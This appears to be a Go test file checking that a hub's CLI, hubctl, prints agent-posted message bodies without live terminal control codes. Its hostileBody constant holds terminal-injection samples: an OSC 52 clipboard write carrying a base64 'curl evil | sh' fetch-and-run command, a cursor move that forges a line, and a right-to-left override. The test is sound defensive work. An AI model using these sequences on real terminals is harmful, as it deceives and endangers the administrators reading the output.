package main

import (
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	hubv1 "github.com/agenthub/hub/gen/hub/v1"
	"github.com/agenthub/hub/internal/termtext"
)

var (
	hubctlOnce sync.Once
	hubctlBin  string
	hubctlErr  error
)

// builtHubctl builds the hubctl binary once per test run.
func builtHubctl(tb testing.TB) string {
	tb.Helper()
	hubctlOnce.Do(func() {
		dir, err := os.MkdirTemp("", "hubctl-bin-")
		if err != nil {
			hubctlErr = err
			return
		}
		hubctlBin = filepath.Join(dir, "hubctl")
		if out, err := exec.Command("go", "build", "-o", hubctlBin, ".").CombinedOutput(); err != nil {
			hubctlErr = err
			hubctlBin = string(out)
		}
	})
	if hubctlErr != nil {
		tb.Fatalf("build hubctl: %v\n%s", hubctlErr, hubctlBin)
	}
	return hubctlBin
}

// hostileBody is what an agent could post to act on an admin's terminal:
// an OSC 52 clipboard write, a cursor move over the line above with a
// forged line, a C1 CSI, a right-to-left override, a bell.
const hostileBody = "deploy done\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b[1A\x1b[2Kall clear\u009b2J \u202etxt.exe\a\nsecond line"

// TestHubctlPrintsNoTerminalControls runs the real hubctl binary, as an
// admin would at a terminal, over a message an agent posted with escape
// sequences in its body: the table views (messages, messages show,
// messages search) show the text without anything a terminal acts on,
// and -o json gives the body back exactly, with those characters escaped.
func TestHubctlPrintsNoTerminalControls(t *testing.T) {
	if testing.Short() {
		t.Skip("builds the hubctl binary")
	}
	t.Parallel()
	h := startHub(t)
	alice := h.addAgent(t, "alice")
	h.addAgent(t, "bob")
	client, ctx := h.agentClient(t, alice)
	posted, err := client.PostMessage(ctx, &hubv1.PostMessageRequest{To: []string{"bob"}, Body: hostileBody})
	if err != nil {
		t.Fatal(err)
	}
	id := posted.GetMessage().GetId()
	bin := builtHubctl(t)
	hubctl := func(args ...string) string {
		t.Helper()
		cmd := exec.Command(bin, args...)
		cmd.Env = []string{"HUB_ADDR=" + h.addr, "HUB_DATA_DIR=" + h.dataDir}
		var stderr strings.Builder
		cmd.Stderr = &stderr
		out, err := cmd.Output()
		if err != nil {
			t.Fatalf("hubctl %s: %v\n%s", strings.Join(args, " "), err, stderr.String())
		}
		return string(out)
	}
	for _, args := range [][]string{{"messages"}, {"messages", "show", id}, {"messages", "search", "deploy"}, {"messages", "--agent", "bob"}} {
		out := hubctl(args...)
		for _, r := range out {
			if termtext.Unsafe(r) {
				t.Errorf("hubctl %s printed %U:\n%q", strings.Join(args, " "), r, out)
				break
			}
		}
		if !strings.Contains(out, "done]52;c;") || !strings.Contains(out, "all clear") {
			t.Errorf("hubctl %s lost the text around the escapes:\n%q", strings.Join(args, " "), out)
		}
	}
	for _, args := range [][]string{{"messages", "-o", "json"}, {"messages", "show", id, "-o", "json"}, {"messages", "search", "deploy", "-o", "json"}} {
		out := hubctl(args...)
		for _, r := range out {
			if termtext.Unsafe(r) {
				t.Errorf("hubctl %s printed %U:\n%q", strings.Join(args, " "), r, out)
				break
			}
		}
		if !json.Valid([]byte(out)) || !strings.Contains(out, `\u001b]52;c;`) {
			t.Errorf("hubctl %s: want valid JSON with the escapes written as \\u escapes:\n%s", strings.Join(args, " "), out)
		}
	}
	var list struct {
		Messages []struct{ Body string } `json:"messages"`
	}
	if out := hubctl("messages", "-o", "json"); json.Unmarshal([]byte(out), &list) != nil || len(list.Messages) != 1 || list.Messages[0].Body != hostileBody {
		t.Errorf("hubctl messages -o json does not give the body back exactly:\n%s", out)
	}
}
